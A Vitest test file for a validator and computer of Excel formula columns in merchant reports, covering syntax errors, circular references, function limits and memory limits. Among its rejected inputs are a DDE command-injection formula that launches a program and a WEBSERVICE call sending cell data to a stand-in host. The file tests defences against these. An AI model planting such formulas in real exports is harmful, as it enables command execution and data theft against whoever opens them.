import { describe, expect, it } from "vitest";
import { parseFormulas } from "./columns.ts";
import { computed, type Given, result } from "./compute-for-tests.ts";
import { createRowComputer } from "./compute-rows.ts";
import { FormulaMemoryLimitExceeded } from "./row-limits.ts";
import { runToCompletion } from "./stepwise-work.ts";
import { formulaProblem, validateFormulas } from "./syntax/validate-formulas.ts";

const problems = (formulas: (string | null)[]) => validateFormulas(formulas).map((judged) => judged?.problem);
const notices = (formulas: (string | null)[]) => validateFormulas(formulas).map((judged) => judged?.notice);

describe("a merchant's formula", () => {
  it.each([
    ["A1+B1", "Excel formulas must start with the '=' sign."],
    [" =A1", "Excel formulas must start with the '=' sign."],
    ["=", "Value is required"],
    [`=1${"+1".repeat(450)}`, "The maximum length allowed is 900"],
    ["=A1+", "Excel cannot read this formula. Look for a missing bracket, operator or argument."],
    ["=SUM(A1", "Excel cannot read this formula. Look for a missing bracket, operator or argument."],
    ["=1 2", "Excel cannot read this formula. Look for a missing bracket, operator or argument."],
    ['="open', "A quotation mark or bracket isn't closed. Close it."],
    ["=SUM(A1;B1)", "Put commas between the arguments of a function, not semicolons."],
    ["=A1#", "Excel cannot read “#” in this formula. Correct it."],
    ["=Total+1", "There is no “Total”. Refer to columns by their letters, such as A1; put text in quotation marks."],
    ["=A0", "There is no “A0”. Refer to columns by their letters, such as A1; put text in quotation marks."],
    [
      "=A1048577",
      "There is no “A1048577”. Refer to columns by their letters, such as A1; put text in quotation marks.",
    ],
    ["=Sheet2!A1", "“Sheet2!A1” is outside this worksheet. Refer to columns of the report, such as A1."],
    ["=[1]Sheet!A1", "“[1]Sheet!A1” is outside this worksheet. Refer to columns of the report, such as A1."],
    ["=cmd|'/C calc'!A0", "Excel cannot read “cmd|” in this formula. Correct it."],
    ["=IF()", "IF takes 2 to 3 arguments, not 0."],
    ["=LEN(A1,B1)", "LEN takes 1 argument, not 2."],
    ["=SUM()", "SUM takes at least 1 argument, not 0."],
    ["=VLOOKUP(A1)", "VLOOKUP takes 3 to 4 arguments, not 1."],
    ['=WEBSERVICE("https://a.example/?"&A1)', "Reports can't use the function WEBSERVICE. Choose another one."],
    ["=_xlfn.LET(x,1,x)", "Reports can't use the functions LET and LAMBDA. Use extra columns for the parts."],
    ["=LET(x,1,x)", "Reports can't use the functions LET and LAMBDA. Use extra columns for the parts."],
    [`="${"x".repeat(256)}"`, "Excel allows at most 255 characters of text in a formula. Shorten it."],
    [
      `=${"IF(1,".repeat(65)}1${")".repeat(65)}`,
      "This formula is nested too deeply. Use a second column for a part of it.",
    ],
  ])("%s is rejected", (formula, said) => {
    expect(formulaProblem(formula)).toBe(said);
  });

  it.each([
    "=A1",
    "= A1 + 1",
    "=a1*$b1",
    "=sum(A1:C1)",
    "=SUM(A:A)",
    "=VLOOKUP(A1,B:C,2,FALSE)",
    "=SUM((A1,B1))",
    "=_xlfn.CONCAT(A1)",
    `=${"(".repeat(400)}A1${")".repeat(400)}`,
    `=${"-".repeat(800)}A1`,
    `=${"IF(1,".repeat(64)}1${")".repeat(64)}`,
  ])("%s is accepted", (formula) => {
    expect(formulaProblem(formula)).toBeUndefined();
  });

  it("may not refer to itself, directly, through other columns or by an absolute row", () => {
    expect(problems([null, "=A1+B1"])[1]).toBe(
      "This formula is in column B and refers to itself. Refer to other columns.",
    );
    expect(problems([null, "=SUM(A1:C1)", null])[1]).toContain("refers to itself.");
    expect(problems([null, "=C1", "=D1*2", "=B1"])).toEqual([
      undefined,
      "This formula is in column B and refers to itself over C and D. Refer to other columns.",
      "This formula is in column C and refers to itself over D and B. Refer to other columns.",
      "This formula is in column D and refers to itself over B and C. Refer to other columns.",
    ]);
    expect(problems([null, "=B$3+1"])[1]).toContain("refers to itself");
    expect(problems([null, "=C$3", "=B2"])[2]).toContain("refers to itself over B");
    expect(problems([null, "=SUM(B:B)"])[1]).toContain("refers to itself");
    expect(problems([null, "=SUM(B$1:B1)"])[1]).toContain("refers to itself");
    expect(problems(["=B1", "=C1", null])).toEqual([undefined, undefined, undefined]);
  });

  it.each(["=ROW(B1)", "=COLUMN(B1)", "=ROW()", "=ROWS(B$1:B1)", "=COLUMNS(A1:B1)", "=AREAS(B1)", "=FORMULATEXT(B1)"])(
    "may refer to its own position: %s in column B",
    (formula) => {
      expect(problems([null, formula])).toEqual([undefined, undefined]);
    },
  );

  it("refers to itself if it reads its own cell besides its position", () => {
    expect(problems([null, "=ROW(B1)+B1"])[1]).toContain("refers to itself");
    expect(problems([null, "=ROW(IF(TRUE,B1))"])[1]).toContain("refers to itself");
  });

  it("may refer only to existing columns", () => {
    expect(problems([null, "=ROW(C1)"])[1]).toBe("There is no column C: the report shows the columns A to B.");
    expect(problems([null, null, "=F1"])[2]).toBe("There is no column F: the report shows the columns A to C.");
    expect(problems(["=SUM(B1:AA1)"])[0]).toBe("There is no column AA: the report shows only column A.");
    expect(problems([null, null, "=A1+B1"])).toEqual([undefined, undefined, undefined]);
  });

  it("comes with a notice if only Excel computes it", () => {
    const only = (why: string) =>
      `Only Excel computes this column, as ${why}. Elsewhere it shows '(computed in Excel)'.`;
    expect(notices([null, "=VLOOKUP(A1,A1:A1,1)+TODAY()"])[1]).toBe(
      only("we do not compute the function VLOOKUP and the function TODAY"),
    );
    expect(notices([null, "=SUM(A:A)"])[1]).toBe(only("we do not compute whole columns"));
    expect(notices([null, "=SUM($A$1:A1)"])[1]).toBe(only("we do not compute ranges that grow from row to row"));
    expect(notices([null, "=A101"])[1]).toBe(only("we do not compute rows after 100"));
    expect(notices([null, "=A1:A3*2"])[1]).toBe(only("we do not compute several cells where one is asked for"));
    expect(notices([null, "=A1+B2"])[1]).toContain("as it runs down to the last row");
    expect(notices(["=B1", "=RAND()"])[0]).toContain("needs a column that only Excel computes");
    expect(notices([null, "=A100"])[1]).toBeUndefined();
  });
});

describe("a column with a formula", () => {
  const rows: Given[][] = [[1], [2], [3], [4]];

  it("shifts the first row's formula to each row", () => {
    expect(computed([null, "=A1*2"], rows)).toEqual([["2"], ["4"], ["6"], ["8"]]);
  });

  it("reads the rows below, and treats rows after the last one as empty", () => {
    expect(computed([null, "=A2-A1"], rows)).toEqual([["1"], ["1"], ["1"], ["-4"]]);
    expect(computed([null, "=SUM(A1:A3)"], rows)).toEqual([["6"], ["9"], ["7"], ["4"]]);
  });

  it("keeps an absolute row fixed", () => {
    expect(computed([null, "=A1/A$2"], rows)).toEqual([["0.5"], ["1"], ["1.5"], ["2"]]);
    expect(computed([null, "=A$4"], rows.slice(0, 2))).toEqual([["0"], ["0"]]);
  });

  it("numbers rows as in the Excel file, where the header is row 1", () => {
    expect(
      computed([null, "=ROW()", "=ROW(C1)-1", "=ROW(A$1)", "=ROW(A3)", "=ROWS(A$1:A1)"], rows.slice(0, 2)),
    ).toEqual([
      ["2", "1", "2", "4", "1"],
      ["3", "2", "2", "5", "2"],
    ]);
    expect(computed([null, "=COLUMN()", "=COLUMN(AA1)", "=COLUMNS(A1:C1)", "=ROWS(A:A)"], [[1]])).toEqual([
      ["2", "27", "3", "1048576"],
    ]);
    expect(computed([null, "=ROW(A1:A3)", "=COLUMN(A:A)"], [[1]])).toEqual([[undefined, undefined]]);
  });

  it("reads formulas in any other column", () => {
    expect(
      computed(
        ["=B1+1", null, "=A2*10", "=C$1"],
        rows.map(([n]) => [null, n ?? null]),
      ),
    ).toEqual([
      ["2", "30", "30"],
      ["3", "40", "30"],
      ["4", "50", "30"],
      ["5", "0", "30"],
    ]);
  });

  it("is left to Excel if it reads a column that is, or is circular", () => {
    expect(computed([null, "=RAND()", "=B1", "=A1"], [[1]])).toEqual([[undefined, undefined, "1"]]);
    expect(computed(["=B1", "=A1"], [[]])).toEqual([[undefined, undefined]]);
  });

  it("treats a missing column as empty", () => {
    expect(result("=F1+1")).toBe("1");
  });

  it("holds back only as many rows as it looks ahead", () => {
    const held = (formula: string) => {
      const computer = createRowComputer<number>(
        parseFormulas([null, formula]),
        { locale: "en" },
        (n) => ({ decimal: String(n) }),
        () => 1,
      );
      return [1, 2, 3, 4]
        .map((n) => runToCompletion(computer.add(n)).length)
        .concat(runToCompletion(computer.end()).length);
    };
    expect(held("=A1")).toEqual([1, 1, 1, 1, 0]);
    expect(held("=A3")).toEqual([0, 0, 1, 1, 2]);
    expect(held("=A$2")).toEqual([0, 2, 1, 1, 0]);
    expect(held("=RAND()")).toEqual([1, 1, 1, 1, 0]);
    expect(held("=ROW(A90)")).toEqual([1, 1, 1, 1, 0]);
  });
});

describe("limits on formulas", () => {
  it("turn text that grows from column to column into an error", () => {
    const formulas = ['=REPT("x",30000)', "=A1&A1", '=SUBSTITUTE(A1,"x",A1)', "=REPT(A1,1000000)"];
    expect(computed(formulas, [[]])[0]?.slice(1)).toEqual(["#VALUE!", "#VALUE!", "#VALUE!"]);
  });

  it("allow many columns with many references", () => {
    const letters = Array.from({ length: 26 }, (_, at) => String.fromCharCode(65 + at));
    const all = letters
      .flatMap((a) => ["", "A", "B", "C"].map((b) => `${b}${a}1`))
      .join("+")
      .slice(0, 890)
      .replace(/\+\w*$/, "");
    expect(
      validateFormulas(Array.from({ length: 400 }, () => `=${all}`)).filter((judged) =>
        judged?.problem?.includes("refers to itself"),
      ).length,
    ).toBeGreaterThan(100);
    const chain = Array.from({ length: 400 }, (_, at) =>
      at === 399 ? "=1" : `=${"+1".repeat(200)}+${toLetteredReference(at + 1)}1`,
    );
    expect(computed(chain, [[]])[0]?.[0]).toBe(String(200 * 399 + 1));
  });

  it("leave text beyond 250,000 characters per row to Excel, and still compute numbers", () => {
    const full = '=REPT("x",32767)';
    const made = computed([full, full, full, full, full, full, full, full, "=1+1", '=REPT("y",9000)'], [[], []]);
    for (const row of made) {
      expect(row.map((text) => text?.length)).toEqual([
        ...Array.from({ length: 7 }, () => 32_767),
        undefined,
        1,
        9_000,
      ]);
      expect(row[8]).toBe("2");
    }
  });

  it("leave a formula that reads such a cell to Excel, even if it handles errors", () => {
    const full = Array.from({ length: 8 }, () => '=REPT("x",32767)');
    expect(computed([...full, '=IFERROR(H1,"none")', "=LEN(H1)", "=IF(1=2,H1,5)"], [[]])[0]?.slice(7)).toEqual([
      undefined,
      undefined,
      undefined,
      "5",
    ]);
  });

  it("reject waiting rows by their weight, however short their formulas", () => {
    const long = Array.from({ length: 7 }, () => '=REPT("x",32767)');
    const rows = (count: number) => Array.from({ length: count }, () => []);
    expect(computed([...long, "=I50", '="last"'], rows(60)).map((row) => row[7])).toContain("last");
    expect(() => computed([...long, "=I100", '="last"'], rows(120))).toThrow(/Refer to nearer rows/);
    expect(() => computed([...long, "=I$100", '="last"'], rows(120))).toThrow(FormulaMemoryLimitExceeded);
    expect(computed([...long, "=I1", '="last"'], rows(120))).toHaveLength(120);
  });

  it("reject waiting rows that hold too much text of orders", () => {
    const rows = (length: number) => Array.from({ length: 120 }, () => ["x".repeat(length)]);
    expect(computed([null, "=LEN(A100)"], rows(65_536))).toHaveLength(120);
    const wide = Array.from({ length: 4 }, () => null);
    const wideRows = rows(65_536).map(([text = ""]) => [text, text, text, text]);
    expect(() => computed([...wide, "=LEN(A100)"], wideRows)).toThrow(FormulaMemoryLimitExceeded);
  });

  it("leave a formula that searches too much to Excel, and compute the others", () => {
    const long = Array.from({ length: 7 }, () => '=REPT("a",32000)');
    const counts = Array.from({ length: 20 }, () => '=COUNTIF(A1:G50,"*"&REPT("a",250)&"b*")');
    const rows = Array.from({ length: 60 }, () => []);
    const [row = []] = computed([...long, ...counts, "=LEN(A1)", '=COUNTIF(A1:G1,"*b*")'], rows);
    expect(row.slice(7)).toEqual([...counts.map(() => undefined), "32000", "0"]);
  });

  it("allow 109 columns that each add up 600 cells, and patterns in long text", () => {
    const sums = Array.from({ length: 109 }, () => "=SUM(A1:A1,$A$1:$A$99,A1:A100,A1:A100,A1:A100,A1:A100,A1:A100)");
    expect(computed([null, ...sums], [[1.25]])[0]).toEqual(sums.map(() => "8.75"));
    const searches = Array.from({ length: 16 }, () => '=IFERROR(SEARCH(REPT("a",254)&"b",REPT("a",32767)),0)');
    expect(computed(searches, [[]])[0]).toEqual(searches.map(() => "0"));
  });

  it("leave many patterns with a question mark in long text to Excel, and compute a single one", () => {
    const searches = Array.from({ length: 16 }, () => '=IFERROR(SEARCH(REPT("a",253)&"?b",REPT("a",32767)),0)');
    expect(new Set(computed(searches, [[]])[0])).toEqual(new Set([undefined]));
    expect(result('=SEARCH("a?b",REPT("a",32000)&"ab")')).toBe("32000");
  });

  it("allow a pattern of many stars in long text", () => {
    expect(result('=COUNTIF(A1:A1,"*a*a*a*a*a*a*a*b")', ["a".repeat(30_000)])).toBe("0");
  });
});

const toLetteredReference = (column: number): string =>
  (column < 26 ? "" : toLetteredReference(Math.floor(column / 26) - 1)) + String.fromCharCode(65 + (column % 26));
